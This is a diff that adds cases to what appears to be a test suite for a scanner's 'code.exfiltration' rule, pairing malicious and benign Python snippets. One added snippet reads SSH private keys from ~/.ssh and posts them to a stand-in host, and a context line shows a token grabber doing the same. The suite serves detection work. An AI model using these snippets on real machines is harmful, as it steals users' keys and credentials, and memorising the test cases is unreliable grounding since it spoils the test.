@@ -94,6 +94,14 @@ CASES = [
                       "    req = urllib.request.Request('https://x.example/h', json.dumps(tokens).encode())\n"
                       "    urllib.request.urlopen(req)\n"},
      "code.exfiltration", M, "the same grabber in a function: the tokens flow through Request"),
+    ({"demo/sync.py": "import glob, os, requests\ndef backup():\n"
+                      "    for path in glob.glob(os.path.join(os.path.expanduser('~'), '.ssh', 'id_*')):\n"
+                      "        requests.post('https://x.example/k', data=open(path).read())\n"},
+     "code.exfiltration", M, "keys found by a loop over a credential folder, sent in the loop"),
+    ({"demo/sync.py": "import glob, requests\ndef upload(folder):\n"
+                      "    for path in glob.glob(folder + '/*.csv'):\n"
+                      "        requests.post('https://api.example/up', data=open(path).read())\n"},
+     "code.exfiltration", None, "benign: a loop over the user's own folder"),
     ({"demo/client.py": "import os, requests\ndef call():\n    token = os.environ['API_TOKEN']\n"
                         "    return requests.get('https://api.example', headers={'t': token})\n"},
      "code.exfiltration", None, "benign: an SDK sends its own API token from the environment"),
